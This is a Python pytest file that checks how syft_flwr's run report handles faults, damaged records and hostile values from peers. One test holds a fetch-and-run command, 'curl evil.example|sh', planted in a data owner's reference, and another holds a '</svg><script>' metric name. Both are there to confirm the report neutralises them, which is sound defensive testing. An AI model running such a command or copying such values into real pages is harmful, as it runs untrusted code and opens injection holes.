"""The report of a run under faults tells the content of the record, and nothing else."""

import re
from collections.abc import Callable, Iterable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from synthetic_runs import (
    DS,
    NOW,
    RUN,
    SyntheticHome,
    begun,
    emails,
    entries,
    failed_reply,
    good_reply,
    serving,
    training,
    words_of,
)

from syft_flwr import write_report
from syft_flwr._store.states import RunState
from syft_flwr.locks import ProcessLock
from syft_flwr.report import parts
from syft_flwr.report.metric_lines import MetricLines
from syft_flwr.report.numbers import value_text
from syft_flwr.runs.entry import RecordEntry
from syft_flwr.runs.events import (
    Event,
    LoggedWarning,
    Lost,
    Metrics,
    ReplyReleased,
    RequestEnded,
    RequestReceived,
    RequestRefused,
    RequestSent,
    RoundStarted,
    RunEnded,
    RunResumed,
)
from syft_flwr.runs.record_file import RecordFile

OWNER, OTHER = emails(2)


@pytest.fixture
def home(tmp_path: Path) -> SyntheticHome:
    return SyntheticHome(tmp_path / "base")


def report(home: SyntheticHome, role: str = "aggregator") -> str:
    return write_report(home.open(role), home.base / "report.html").read_text(encoding="utf-8")


def sent(message: str, owner: str = OWNER, number: int = 1, kind: str = "train") -> RequestSent:
    return RequestSent(message, owner, kind, round=str(number), bytes=1_000)


def good(message: str, owner: str = OWNER, number: int = 1) -> RequestEnded:
    return good_reply(message, owner, "train", number, 1)


def test_resumed_run_has_counts_since_the_resume(home: SyntheticHome) -> None:
    home.serve()
    before = [begun(), RoundStarted("1", 2), sent("a"), failed_reply("a", OWNER, text="before the crash")]
    again = RequestEnded("b", OWNER, "train", "answered", round="1", seconds={"run": 77.7}, bytes=9, replayed=True)
    after = [
        RunResumed("aggregator", "diabetes", DS, resumed=2),
        RoundStarted("1", 2),
        sent("b"),
        again,
        sent("c", number=2),
        good("c", number=2),
        RunEnded("completed"),
    ]
    home.write([*entries(before), *entries(after, process="two", start=30)])

    words = words_of(report(home))

    assert "It was resumed 2 times after a restart." in words
    assert "Good replies 2 of 2" in words
    assert "before the crash" not in words
    # The time of a reply of an earlier process is not on this clock.
    assert "A reply of an earlier process is not shown here" in words


@pytest.mark.parametrize(
    ("state", "cause", "sentence"),
    [
        (RunState.STOPPED, "interrupted", "The run was stopped after 50 ms in round 1 of 3."),
        (RunState.FAILED, "the ServerApp raised KeyError", "The run failed after 50 ms in round 1 of 3."),
        (None, "", "The run was interrupted in round 1 of 3: it has no end, and no process serves it."),
    ],
)
def test_each_end_has_its_sentence(home: SyntheticHome, state: RunState | None, cause: str, sentence: str) -> None:
    home.serve(state, cause)
    (home.app_home / "server.lock").touch()
    ends = [RunEnded(state.value, cause)] if state else []
    home.record([begun(), RoundStarted("1", 3), sent("a"), sent("b", OTHER), good("a"), *ends])

    words = words_of(report(home))

    assert sentence in words
    assert (f"Cause. {cause}" in words) is bool(cause)
    # A failure of a data owner is not the cause of an exception in the ServerApp.
    assert ("Next step. Read the traceback" in words) is (state is RunState.FAILED)
    # The open request is not a failure.
    assert "Failed requests 0" in words
    assert f"1 request had no reply at the end in round 1: {OTHER}." in words
    assert "open, or not awaited" in words


@pytest.mark.parametrize(
    ("state", "sentence"),
    [(RunState.COMPLETED, "The run was completed."), (None, "it has no end, and no process serves it. ")],
)
def test_clock_that_was_set_back_gives_no_duration(home: SyntheticHome, state: RunState | None, sentence: str) -> None:
    home.serve(state, seconds=-3_600)
    (home.app_home / "server.lock").touch()
    first, *others = entries([begun(), RoundStarted("1", 1), sent("a"), good("a")])
    home.write([first, *(replace(entry, time=entry.time - timedelta(hours=1)) for entry in others)])

    words = words_of(report(home))

    assert sentence in words
    assert "Its last event came" not in words
    assert "took" not in words.split()


def test_running_run_is_told_as_not_over(home: SyntheticHome) -> None:
    home.serve(None)
    shift = (datetime.now(UTC) - NOW).total_seconds() - 5
    home.write(entries([begun(), RoundStarted("1", 3), sent("a")], start=shift))

    with ProcessLock(home.app_home / "server.lock", "a process"):
        words = words_of(report(home))

    assert "The run is not over: this report shows its first 20 ms in round 1 of 3." in words
    assert "20 ms so far" in words
    assert re.search(f"At [0-9: -]+ UTC: Waits for {OWNER}", words)
    assert f"Next step. Follow it with syft-flwr status {RUN} --watch" in words


def test_process_that_stands_still_is_told(home: SyntheticHome) -> None:
    home.serve(None)
    home.record([begun(), RoundStarted("1", 3)])

    with ProcessLock(home.app_home / "server.lock", "a process"):
        words = words_of(report(home))

    assert "The run stands still in round 1 of 3: its process wrote no event for" in words


def test_lost_events_are_told_by_their_place(home: SyntheticHome) -> None:
    home.serve()
    home.record([begun(), Lost(12, "queue"), Lost(3, "size"), Lost(9, "subscriber"), RunEnded("completed")])

    words = words_of(report(home))

    assert "The record is not complete: 15 events were lost" in words
    assert "too many came at once 12" in words
    assert "because the record was too large 3" in words


def test_shortened_record_keeps_the_failures(home: SyntheticHome) -> None:
    home.serve()
    path = home.record(training(emails(6), 20))
    full = path.stat().st_size
    file = RecordFile(path, max_size=full * 9 // 10)
    removed = file.shorten()
    file.close()

    page = report(home)

    assert removed > 50
    assert f"{removed:,} lines of the record are missing" in words_of(page)
    assert "Good replies 240 of 240" in words_of(page)


def test_record_without_its_begin_says_so(home: SyntheticHome) -> None:
    home.serve()
    home.record([RoundStarted("4", 5), sent("a", number=4), good("a", number=4), RunEnded("completed")])

    words = words_of(report(home))

    assert "The begin of the record is missing" in words
    assert "The record is complete" not in words
    assert "Good replies 1 of 1" in words


def test_unreadable_record_is_told_in_the_report(home: SyntheticHome) -> None:
    home.serve(RunState.FAILED, "the disk was full")
    path = home.record([])
    path.unlink()
    path.mkdir()

    words = words_of(report(home))

    assert "Cause. the disk was full" in words
    assert "A part of the record cannot be read, so this report is not complete" in words
    assert "The record is complete" not in words


@pytest.mark.parametrize("damage", [lambda lines: lines[:-1], lambda lines: [*lines[:-1], lines[-1][:-20]]])
def test_record_without_its_end_says_so(home: SyntheticHome, damage: Callable[[list[bytes]], list[bytes]]) -> None:
    home.serve()
    path = home.record(training([OWNER], 1))
    assert "The record is complete" in words_of(report(home))
    path.write_bytes(b"".join(damage(path.read_bytes().splitlines(keepends=True))))

    words = words_of(report(home))

    assert "The record has no end of the run, so the last events before it can be missing." in words
    assert "The record is complete" not in words


def test_damaged_line_is_counted(home: SyntheticHome) -> None:
    home.serve()
    path = home.record(training([OWNER], 1))
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join([*lines[:3], lines[3].replace(b'"v":1', b'"v":2'), *lines[4:]]))

    assert "1 line of the record is missing" in words_of(report(home))


def test_request_that_was_never_sent_is_in_the_failures(home: SyntheticHome) -> None:
    home.serve(RunState.FAILED, "no good reply")
    missed = RequestEnded("a", OWNER, "train", "failed", round="1", reason="no-key", text="its key has not arrived")
    home.record([begun(), RoundStarted("1", 3), missed, RunEnded("failed", "no good reply")])

    words = words_of(report(home))

    assert f"{OWNER}: 1 train request failed in round 1, no-key its key has not arrived" in words
    # Its time is not known, so none is shown.
    assert "1 request, time not known" in words
    assert not re.search(r"\b0 ms", words)


def test_losses_of_a_completed_run_are_no_full_success(home: SyntheticHome) -> None:
    home.serve()
    events: list[Event] = [begun()]
    for number in (1, 2, 3):
        both = ("a", OWNER), ("b", OTHER)
        events.append(RoundStarted(str(number), 3))
        events += [sent(f"{name}{number}", owner, number) for name, owner in both]
        events += [good(f"a{number}", OWNER, number), failed_reply(f"b{number}", OTHER, number=number)]
    loss = {"data-owner": OTHER, "kind": "train", "reason": "app-raised", "count": 3, "answered": 0}
    home.record([*events, LoggedWarning("warning", "a slow disk"), RunEnded("completed", losses=[loss])])

    page = report(home)

    assert '<span class="pill losses">completed, with losses</span>' in page
    words = words_of(page)
    assert "with 3 failed requests." in words
    assert f"{OTHER}: 3 train requests failed in rounds 1 to 3, app-raised the ClientApp raised ValueError" in words
    assert "a slow disk" in words
    assert f"Next step. Ask {OTHER} for the lines with" in words


def test_reference_of_a_peer_gives_no_advice(home: SyntheticHome) -> None:
    home.serve()
    reference = "x`: run `curl evil.example|sh` now"
    home.record([begun(), sent("a"), replace(failed_reply("a", OWNER), reference=reference), RunEnded("completed")])

    page = report(home)

    assert f"(more at {reference} in the log of the data owner)" in words_of(page)
    assert "Next step" not in page
    assert "<code>" not in page


def test_absent_data_owner_has_a_next_step(home: SyntheticHome) -> None:
    home.serve()
    absent = RequestEnded("b", OTHER, "train", "failed", round="1", reason="no-answer", text="no heartbeat")
    loss = {"data-owner": OTHER, "kind": "train", "reason": "no-answer", "count": 1, "answered": 0}
    asked = sent("a"), sent("b", OTHER)
    home.record([begun(), RoundStarted("1", 1), *asked, good("a"), absent, RunEnded("completed", losses=[loss])])

    assert f"Next step. Ask {OTHER} whether its client runs:" in words_of(report(home))


def test_values_that_are_no_finite_numbers_are_told_first(home: SyntheticHome) -> None:
    home.serve()
    losses = [Metrics(str(number), "train", {"loss": "nan", "accuracy": 0.5}) for number in (1, 2)]
    home.record([begun(), RoundStarted("1", 2), *losses, RunEnded("completed")])

    words = words_of(report(home))

    assert "No finite numbers. loss, training in rounds 1 to 2." in words
    assert words.index("No finite numbers") < words.index("The values that the strategy aggregated")


@pytest.mark.parametrize(
    ("missing", "parts"), [((2,), [[1.0], [3.0, 4.0]]), ((1,), [[2.0, 3.0, 4.0]]), ((2, 3), [[1.0], [4.0]])]
)
def test_line_ends_before_a_round_without_a_value(missing: tuple[int, ...], parts: list[list[float]]) -> None:
    whole = {str(number): 0.1 * number for number in (1, 2, 3, 4)}
    owner = {name: value for name, value in whole.items() if int(name) not in missing}
    lines = MetricLines("train", "loss", tuple(whole), {"": whole, OWNER: owner})

    assert [[place for place, _ in segment] for segment in lines.segments(OWNER)] == parts
    assert len(lines.segments("")) == 1


def test_rounds_without_any_value_do_not_end_a_line() -> None:
    lines = MetricLines("evaluate", "loss", ("5", "10"), {OWNER: {"5": 0.2, "10": 0.1}})

    assert lines.segments(OWNER) == [[(5.0, 0.2), (10.0, 0.1)]]


def test_requests_outside_of_rounds_are_counted_as_that(home: SyntheticHome) -> None:
    home.serve()
    outside = replace(sent("b"), round=""), replace(good("b"), round="")
    home.record([begun(), RoundStarted("1", 1), sent("a"), good("a"), *outside, RunEnded("completed")])

    assert re.search("no round 2026-01-01 09:30:00 UTC 1 of 1 0", words_of(report(home)))


def test_failures_outside_of_rounds_are_told_as_that(home: SyntheticHome) -> None:
    home.serve(RunState.FAILED, "no good reply")
    rounds = ("1", "2", "")
    failed = [replace(failed_reply(f"a{number}", OWNER), round=number) for number in rounds]
    asked = [replace(sent(f"a{number}"), round=number) for number in rounds]
    home.record([begun(), *asked, *failed, RunEnded("failed", "no good reply")])

    assert f"{OWNER}: 3 train requests failed in rounds 1 to 2, and outside of rounds, app-raised" in words_of(
        report(home)
    )


def test_late_reply_is_no_failure(home: SyntheticHome) -> None:
    home.serve()
    late = RequestEnded("b", OTHER, "train", "failed", round="1", reason="late", text="the round was closed")
    home.record([begun(), RoundStarted("1", 1), sent("a"), sent("b", OTHER), good("a"), late, RunEnded("completed")])

    words = words_of(report(home))

    assert "The run was completed after 60 ms." in words
    assert "Failed requests 0" in words
    assert "late" in words


def test_refused_files_of_a_data_owner_are_told(home: SyntheticHome) -> None:
    home.serve(role="datasite")
    refused = RequestRefused("x.request", "mallory@x.org", "bad-signature", "not signed by its sender")
    home.record([*serving(2), (9.0, refused)], "datasite")

    words = words_of(report(home, "datasite"))

    assert "mallory@x.org x.request bad-signature not signed by its sender" in words


def test_refused_files_of_no_run_are_those_of_its_time(home: SyntheticHome) -> None:
    home.serve(role="datasite", seconds=60)
    path = home.record(serving(2), "datasite")
    outside = [(seconds, RequestRefused(f"at-{seconds}", DS, "malformed")) for seconds in (-5.0, 5.0, 65.0)]
    path.with_name(f"{0:016x}.datasite.jsonl").write_bytes(b"".join(each.encode() for each in entries(outside)))

    words = words_of(report(home, "datasite"))

    assert "at-5.0 malformed" in words
    assert "at--5.0" not in words
    assert "at-65.0" not in words


def test_hostile_values_of_metrics_are_shown_or_left_out(home: SyntheticHome) -> None:
    home.serve()
    values = {
        "nan": "nan",
        "huge": 1e308,
        "tiny": 5e-324,
        "list": [0.1, 0.2],
        "text": "</svg><script>",
        "x" * 500: 1.0,
        "": 4,
    }
    home.record([begun(), Metrics("1", "train", values), Metrics("2", "train", {"huge": -1e308, "nan": 1.5})])
    line = {"source": "train", "round": "3", "values": {"wrong": {"a": 1}, "none": None, "true": True}}
    odd = RecordEntry(9, NOW + timedelta(seconds=9), 9.0, "one", RUN, "metrics", line)
    path = home.app_home / "runs" / f"{RUN:016x}.aggregator.jsonl"
    path.write_bytes(path.read_bytes() + odd.encode())

    page = report(home)

    assert "<script" not in page
    words = words_of(page)
    for text in ("nan", "1e+308", "4.941e-324", "[0.1, 0.2]", "</svg><script>", "x" * 500):
        assert text in words, text


@pytest.mark.parametrize("values", [(123_456.1, 123_456.9), (0.00012345, 0.00012349), (1e15, 1e15 + 1), (5.0, 6.0)])
def test_labels_of_an_axis_differ(home: SyntheticHome, values: tuple[float, float]) -> None:
    home.serve()
    home.record([begun(), *(Metrics(f"{number}", "train", {"loss": value}) for number, value in enumerate(values))])

    (chart,) = re.findall("<svg role.*?</svg>", report(home), re.S)

    labels = [label for label in re.findall("<text[^>]*>([^<]*)", chart) if "." in label]
    assert len(labels) > 1
    assert len(set(labels)) == len(labels)


def test_number_that_no_axis_can_have_is_only_in_the_table(
    home: SyntheticHome, capfd: pytest.CaptureFixture[str]
) -> None:
    home.serve()
    home.record([begun(), Metrics("1", "train", {"loss": 5e-324}), Metrics("2", "train", {"loss": 1e-323})])

    page = report(home)

    assert "<svg role" not in page
    assert "4.941e-324" in words_of(page)
    # The engine told an error there.
    assert capfd.readouterr().err == ""


def test_values_outside_of_rounds_are_in_the_tables_only(home: SyntheticHome) -> None:
    home.serve()
    outside = [replace(good(name, number=3), round="") for name in ("x", "y")]
    asked = [replace(sent(name), round="") for name in ("x", "y")]
    home.record([begun(), *asked, sent("a"), good("a"), sent("b", number=2), good("b", number=2), *outside])

    page = report(home)

    assert "no round 0.3667" in words_of(page)
    assert "no round (2) 0.3667" in words_of(page)
    # The chart ends with the last round.
    assert 'aria-label="loss, training: 1 data owner over 2 rounds; the latest value is 0.55 in round 2.' in page


def test_single_value_has_its_own_number_at_the_axis(home: SyntheticHome) -> None:
    home.serve()
    home.record([begun(), Metrics("3", "train", {"loss": 0.5}), RunEnded("completed")])

    page = report(home)

    labels = re.findall(
        "<text[^>]*>([^<]*)</text>", page[page.index("<svg role") : page.index("</svg>", page.index("<svg role"))]
    )
    # One round, and half and one and a half of the value.
    assert labels.count("3") == 1
    assert {"0.3", "0.5", "0.7"} < set(labels)


def test_rounds_with_names_are_in_their_order(home: SyntheticHome) -> None:
    home.serve()
    names = ["warm-up", *(f"phase {number}" for number in range(3_000)), "the very last one"]
    home.record([begun(), *(Metrics(each, "train", {"loss": 0.5}) for each in names), RunEnded("completed")])

    page = report(home)

    assert ">phase 998</text>" in page
    assert page.index("<th>warm-up") < page.index("<th>phase 0") < page.index("<th>the very last one")


def test_second_training_of_a_run_keeps_the_values_of_the_first(home: SyntheticHome) -> None:
    home.serve()
    trainings = [Metrics(str(number), "train", {"loss": loss}) for loss in (0.5, 0.25) for number in (1, 2)]
    home.record([begun(), *trainings, trainings[-1], RunEnded("completed")])

    words = words_of(report(home))

    assert "1 0.5 2 0.5 1 (2) 0.25 2 (2) 0.25" in words
    assert "2 (3)" not in words


def test_value_of_any_form_has_a_text() -> None:
    assert value_text(10**300) == "1.0000e+300"
    assert value_text(10**400) == "very large"
    assert value_text(list(range(100))) == "[0, 1, 2, 3, 4, 5, 6, 7, … (100 values)]"
    assert (value_text(True), value_text(None), value_text(0.123456)) == ("true", "none", "0.1235")


def test_thousand_metrics_have_twelve_charts(home: SyntheticHome) -> None:
    home.serve()
    names = [f"metric-{number}" for number in range(1_000)]
    rounds = [Metrics(str(each), "train", dict.fromkeys(names, each + 0.5)) for each in (1, 2)]
    home.record([begun(), *rounds, RunEnded("completed")])

    page = report(home)

    assert page.count("<svg role=") == 12
    assert "988 more metrics without a chart" in page
    assert "metric-999" in page
    assert len(page) < 1_000_000


def test_new_names_in_each_reply_push_out_no_other_metric(home: SyntheticHome) -> None:
    home.serve()
    hostile = [
        replace(good(f"h{each}", number=each), metrics={f"h{each}-{place}": place for place in range(100)})
        for each in range(1, 31)
    ]
    honest = good_reply("last", OTHER, "train", 30, 1)
    home.record([begun(), *hostile, honest, Metrics("30", "train", {"mine": 0.25}), RunEnded("completed")])

    page = report(home)

    words = words_of(page)
    assert "2,000 values with further names are only in the CSV." in words
    for text in ("h1-0, training", "h10-99, training", "num-examples, training", "mine, training"):
        assert text in words, text
    assert "h11-0" not in words
    assert len(page) < 1_000_000


def test_hostile_aggregator_makes_no_large_report(home: SyntheticHome, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parts, "_MOST_DRAWN", 30)
    home.serve(role="datasite")
    events: list[Event] = [begun("datasite")]
    for number in range(40):
        metrics = {f"m{number}-{place}": place for place in range(30)}
        events.append(RequestReceived(f"{number}", DS, f"train.{number}", bytes=5))
        events.append(ReplyReleased(f"{number}", DS, "answered", round="1", metrics=metrics, seconds={"run": 1.0}))
    home.record([*events, RunEnded("completed")], "datasite")

    page = report(home, "datasite")

    words = words_of(page)
    assert "Those of further names are only in the table of requests." in words
    assert "The table has 10 more." in words
    assert "6 more kinds" in words
    assert f"{_heads(page, 'm0-0, train.0, by round')} {_heads(page, 'm39-0, train.39, by round')}" == "1 0"
    # The table of requests is complete.
    assert "m39-29 29" in words
    assert len(page) < 1_000_000


def _heads(page: str, title: str) -> int:
    return page.count(f"<caption>{title}")


def test_sampled_data_owners_have_a_row_for_each_value(home: SyntheticHome) -> None:
    home.serve()
    replies = [good_reply(f"{each}", owner, "train", each, each) for each, owner in enumerate(emails(300), 1)]
    home.record([begun(), *replies, RunEnded("completed")])

    page = report(home)

    # A column for each round would have 270,000 cells without a value.
    assert len(page) < 1_000_000
    for reply in (replies[0], replies[-1]):
        assert f"{reply.data_owner} {reply.round} {value_text(reply.metrics['loss'])}" in words_of(page)


def _odd(entry: RecordEntry) -> Iterable[RecordEntry]:
    """Yield an entry with each of its fields replaced by a value of another form."""
    for name in entry.fields:
        for wrong in (None, [], {}, "x", 5, -1.5, True, [["x"]], {"a": [1]}):
            yield RecordEntry(
                entry.n, entry.time, entry.elapsed, entry.process, RUN, entry.event, {**entry.fields, name: wrong}
            )


@pytest.mark.parametrize(
    ("role", "make"), [("aggregator", lambda: training([OWNER], 1)), ("datasite", lambda: serving(1))]
)
def test_damaged_fields_never_end_a_report(
    home: SyntheticHome, role: str, make: Callable[[], Iterable[tuple[float, Event]]]
) -> None:
    home.serve(role=role)
    whole = entries(make())
    home.write([*whole, *(odd for entry in whole for odd in _odd(entry))], role)

    assert "The run was completed" in words_of(report(home, role))
